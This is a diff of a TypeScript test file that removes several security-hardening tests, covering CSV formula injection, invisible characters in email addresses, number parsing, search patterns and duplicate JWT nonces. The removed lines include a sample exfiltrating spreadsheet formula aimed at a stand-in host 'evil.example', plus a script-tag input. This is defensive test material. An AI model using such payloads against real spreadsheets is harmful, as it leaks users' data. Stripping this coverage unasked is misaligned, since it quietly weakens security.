@@ -1,12 +1,7 @@
 import { test } from 'uvu'
 import * as assert from 'uvu/assert'
-import { toCsv } from '../../support/toCsv.ts'
-import { dateOf } from '../../../src/lib/format.ts'
-import { list, lookup, one, post, put, remove } from '../../../src/lib/calls.ts'
+import { list, one, post, put, remove } from '../../../src/lib/calls.ts'
 import { messagesOf } from '../../../src/lib/messages.ts'
-import { nonceOf } from '../../../src/lib/jwt.ts'
-import { email, numberOf, wholeNumber } from '../../../src/lib/rules.ts'
-import { searchFor } from '../../../src/lib/search.ts'
 import { needed, object, rowId, text, unknown } from '../../../src/lib/shape.ts'
 import { anyObject, failureOf, hangUp, talk } from './talk.ts'
 
@@ -118,21 +113,6 @@ test('H07 rows that try to change what all objects inherit change nothing', asyn
   assert.is(error.code, 'FORMAT')
 })
 
-test('H08 an error that comes with status 200 is no list, no account and nothing that was made', async () => {
-  const body = '{"errors": ["システムエラー"], "code": 500}'
-  const calls = [
-    list('/vendors/', anyObject),
-    one('/vendor/', object<any>({ name: needed(unknown) })),
-    post('/vendorGroup/', object<any>({ id: needed(unknown) })),
-  ]
-  for (const call of calls) {
-    talk({ body })
-    assert.is((await failureOf(call({}))).code, 'FORMAT')
-  }
-  talk({ body: '"error"' })
-  assert.is((await failureOf(lookup('/idProviderUser/', anyObject)({}))).code, 'FORMAT')
-})
-
 test('H09 a byte order mark before the JSON is no obstacle, another encoding is a failed load', async () => {
   talk({ body: '\ufeff[{"id":1}]' })
   assert.equal(await list('/vendors/', anyObject)({}), [{ id: 1 }])
@@ -153,14 +133,8 @@ test('H11 the words of an error are found below 10,000 levels, or given up, with
     ['[', ']'],
     ['{"a":', '}'],
   ] as const) {
-    const body: unknown = JSON.parse(`${open.repeat(10_000)}"深い"${close.repeat(10_000)}`)
-    let lines: string[] | undefined
-    try {
-      lines = messagesOf(body)
-    } catch (error) {
-      assert.unreachable(String(error))
-    }
-    assert.ok(lines?.length === 0 || lines?.[0] === '深い')
+    const lines = messagesOf(JSON.parse(`${open.repeat(10_000)}"深い"${close.repeat(10_000)}`))
+    assert.ok(lines.length === 0 || lines[0] === '深い')
   }
 })
 
@@ -170,114 +144,5 @@ test('H12 of an error with 10,000 lines none is lost, in linear time', () => {
   assert.is(messagesOf(body).length, 10_000)
   assert.ok(performance.now() - started < 2_000)
 })
-
-// ---- values ----
-
-test('H13 a date that no calendar has is shown as it came, an epoch or an absurd instant is none', () => {
-  for (const [value, shown] of [
-    ['9999-99-99', '9999-99-99'],
-    ['0000-00-00', '0000-00-00'],
-    [1_790_000_000, undefined],
-    [0, undefined],
-    ['1790000000', undefined],
-    ['+275760-09-13', undefined],
-    ['2027-03-31T99:99:99Z', undefined],
-    ['2027-03-31<script>', undefined],
-    [['2027-03-31'], undefined],
-    ['2027-03-31\n', undefined],
-    [{ toString: () => '2027-03-31' }, undefined],
-    ['２０２７-03-31', undefined],
-  ] as const)
-    assert.is(dateOf(value), shown, String(value))
-})
-
-test('H14 an address with something invisible in it is refused', () => {
-  const rule = email('x')
-  const hidden = ['\u200b', '\u200d', '\u202e', '\ufeff', '\0', '\n', '\r\n', '\u00ad', '\ud800', '\t']
-  for (const character of hidden) {
-    for (const address of [`a${character}@b.jp`, `${character}a@b.jp`, `a@b.jp${character}`, `a@b${character}.jp`]) {
-      assert.is(rule(address), 'x', JSON.stringify(address))
-    }
-  }
-})
-
-test('H15 a number is written in digits alone, however large it is made to look', () => {
-  const rule = wholeNumber(60, 31_536_000, 'x')
-  for (const text of ['6e1', '0x3c', '+60', '-60', '60.0', '1_000', '九九', '６０。', '9'.repeat(400), 'Infinity', '60\0', '１,０００']) {
-    assert.is(rule(text), 'x', text)
-  }
-  // Only characters that normalize to digits count as digits.
-  assert.equal(['６０', '⑥⓪', '𝟨𝟢'].map(numberOf), [60, 60, 60])
-})
-
-test('H16 a search finds nothing by accident: patterns, halves of characters and what expands are plain text', () => {
-  for (const wanted of ['.*', '[', '(?=', '\\', '$', '^', '\ud83c', '%', '__proto__']) {
-    assert.is(searchFor(wanted)('農園'), false, wanted)
-    assert.is(searchFor(wanted)(`農${wanted}園`), true, wanted)
-  }
-  const started = performance.now()
-  // One character that normalizes to eighteen.
-  assert.is(searchFor('無い')('\ufdfa'.repeat(300_000)), false)
-  assert.ok(performance.now() - started < 5_000)
-})
-
-test('H17 an id token of a megabyte, or with its nonce twice, is read at once, and like every reader of JSON reads it', () => {
-  const tokenOf = (claims: string) => `e.${Buffer.from(claims).toString('base64url')}.s`
-  const started = performance.now()
-  assert.is(nonceOf(tokenOf(JSON.stringify({ roles: 'x'.repeat(1_000_000), nonce: 'n' }))), 'n')
-  assert.ok(performance.now() - started < 2_000)
-  assert.is(nonceOf(tokenOf('{"nonce":"forged","nonce":"n"}')), 'n')
-  assert.is(nonceOf(tokenOf('{"nonce":{"toString":"n"}}')), undefined)
-})
-
-// ---- files ----
-
-const cell = (value: string) => toCsv([[value]]).slice(1, -2)
-
-test('H18 a cell that begins with NUL or a line feed, behind which a spreadsheet may find a formula, is made a text', () => {
-  for (const value of ['\0=1+1', '\n=1+1', '\r\n=1+1']) assert.match(cell(value), /^"?'/, JSON.stringify(value))
-})
-
-test('H19 a cell that begins with a full-width sign, which Japanese spreadsheets take for a half-width one, is made a text', () => {
-  for (const value of ['＝1+1', '＋1', '－1', '＠SUM(A1)']) assert.is(cell(value), `'${value}`)
-})
-
-test('H20 H29 no value ends its cell or its row, and each formula in it is made a text', () => {
-  const nasty = [
-    '"',
-    '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x',
-    '=1+1',
-    '""',
-    '",="x"',
-    'a"\r\n=1',
-    '\r',
-    '\n',
-    ',',
-    '",',
-    '\u2028',
-    'a\0b',
-    '"\n"',
-    '\ud800',
-  ]
-  const text = toCsv([nasty, nasty.toReversed()])
-  assert.equal(
-    parse(text.slice(1)).map(row => row.map(value => value.replace(/^'/, ''))),
-    [nasty, nasty.toReversed()],
-  )
-})
-
-/** Parses CSV (RFC 4180, section 2). */
-function parse(text: string): string[][] {
-  const rows: string[][] = []
-  let row: string[] = []
-  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
-    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
-    if (end === '\r\n') {
-      rows.push(row)
-      row = []
-    }
-  }
-  return rows
-}
 
 test.run()
